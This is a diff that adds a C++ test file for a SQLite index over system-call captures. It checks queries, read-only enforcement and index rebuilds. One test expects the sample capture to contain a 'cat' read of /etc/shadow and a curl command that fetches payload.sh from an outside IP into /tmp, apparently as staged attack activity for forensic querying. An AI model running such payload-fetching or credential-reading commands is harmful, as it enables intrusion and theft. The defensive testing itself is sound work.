@@ -1,0 +1,120 @@
+// The SQLite index: built from a capture, answering SQL, refusing writes, rebuilt when stale.
+#include <gtest/gtest.h>
+
+#include <sqlite3.h>
+
+#include <cstdio>
+#include <filesystem>
+#include <fstream>
+
+#include "saker/query/capture_index.h"
+#include "saker/scap/reader.h"
+#include "test_paths.h"
+
+namespace saker::query {
+namespace {
+
+struct Result {
+  int status;
+  std::string out, err;
+};
+
+Result query(const std::string& capture, const std::string& index, const std::string& sql,
+             QueryFormat f = QueryFormat::Csv) {
+  std::FILE* out = std::tmpfile();
+  std::FILE* err = std::tmpfile();
+  Result r{run_query(capture, index, sql, f, out, err), {}, {}};
+  for (auto [file, text] : {std::pair{out, &r.out}, std::pair{err, &r.err}}) {
+    std::rewind(file);
+    char buf[4096];
+    for (size_t n; (n = std::fread(buf, 1, sizeof buf, file)) > 0;) text->append(buf, n);
+    std::fclose(file);
+  }
+  return r;
+}
+
+class IndexTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    capture_ = (dir_ / "s.scap").string();
+    std::filesystem::copy_file(test::samples_dir() / "shell-session.scap", capture_);
+    index_ = default_index_path(capture_);
+  }
+  test::TempDir dir_;
+  std::string capture_, index_;
+};
+
+TEST_F(IndexTest, OneRowPerEventWithState) {
+  auto built = build_index(capture_, index_);
+  uint64_t n = 0;
+  scap::Reader r(capture_);
+  scap::EventView ev;
+  while (r.next(ev)) ++n;
+  EXPECT_EQ(built.events, n);
+  EXPECT_TRUE(index_is_current(capture_, index_));
+  auto q = query(capture_, index_, "SELECT count(*) FROM events");
+  EXPECT_EQ(q.out, "count(*)\n" + std::to_string(n) + "\n");
+  q = query(capture_, index_,
+            "SELECT num, proc_name, user_name FROM events WHERE type = 'openat' AND dir = '<' AND fd_name = "
+            "'/etc/shadow'");
+  EXPECT_EQ(q.status, 0) << q.err;
+  EXPECT_NE(q.out.find(",cat,alice"), std::string::npos) << q.out;
+  q = query(capture_, index_, "SELECT cmdline FROM processes WHERE name = 'curl'");
+  EXPECT_NE(q.out.find("curl -s http://203.0.113.7/payload.sh -o /tmp/payload.sh"), std::string::npos)
+      << q.out;
+}
+
+TEST_F(IndexTest, OffsetsLeadBackToTheRawEvent) {
+  build_index(capture_, index_);
+  auto q = query(capture_, index_, "SELECT num, offset FROM events WHERE type = 'chmod' AND dir = '<'");
+  auto line = q.out.substr(q.out.find('\n') + 1);
+  uint64_t num = std::stoull(line.substr(0, line.find(',')));
+  uint64_t offset = std::stoull(line.substr(line.find(',') + 1));
+  scap::Reader r(capture_);
+  r.seek_event(offset, num);
+  scap::EventView ev;
+  ASSERT_TRUE(r.next(ev));
+  EXPECT_EQ(ev.name(), "chmod");
+  EXPECT_EQ(ev.num, num);
+}
+
+TEST_F(IndexTest, WritesAreRefusedAndBadSqlIsReported) {
+  auto w = query(capture_, index_, "DELETE FROM events");
+  EXPECT_EQ(w.status, 1);
+  EXPECT_NE(w.err.find("read-only"), std::string::npos) << w.err;
+  auto b = query(capture_, index_, "SELEC 1");
+  EXPECT_EQ(b.status, 1);
+  EXPECT_NE(b.err.find("syntax error"), std::string::npos) << b.err;
+  auto j = query(capture_, index_, "SELECT num, type FROM events WHERE num = 1", QueryFormat::Json);
+  EXPECT_EQ(j.out, "{\"num\":1,\"type\":\"clone\"}\n");
+}
+
+TEST_F(IndexTest, StaleOrOldIndexesAreRebuilt) {
+  build_index(capture_, index_);
+  {  // an index of another schema version
+    sqlite3* db = nullptr;
+    ASSERT_EQ(sqlite3_open(index_.c_str(), &db), SQLITE_OK);
+    sqlite3_exec(db, "UPDATE meta SET value = '0' WHERE key = 'schema_version'", nullptr, nullptr, nullptr);
+    sqlite3_close(db);
+  }
+  EXPECT_FALSE(index_is_current(capture_, index_));
+  auto q = query(capture_, index_, "SELECT value FROM meta WHERE key = 'schema_version'");
+  EXPECT_NE(q.err.find("indexed"), std::string::npos) << q.err;
+  EXPECT_EQ(q.out, "value\n" + std::to_string(kIndexSchemaVersion) + "\n");
+  // The capture changes: the index no longer describes it.
+  std::filesystem::copy_file(test::samples_dir() / "rules" / "benign.scap", capture_,
+                             std::filesystem::copy_options::overwrite_existing);
+  EXPECT_FALSE(index_is_current(capture_, index_));
+  q = query(capture_, index_, "SELECT count(*) FROM events WHERE proc_name = 'git'");
+  EXPECT_GT(std::stoi(q.out.substr(q.out.find('\n') + 1)), 0) << q.out;
+}
+
+TEST_F(IndexTest, UnreadableCaptureIsExitTwo) {
+  std::ofstream(capture_, std::ios::trunc) << "nothing";
+  auto q = query(capture_, index_, "SELECT 1");
+  EXPECT_EQ(q.status, 2);
+  EXPECT_NE(q.err.find("not a .scap capture"), std::string::npos) << q.err;
+}
+
+}  // namespace
+}  // namespace saker::query
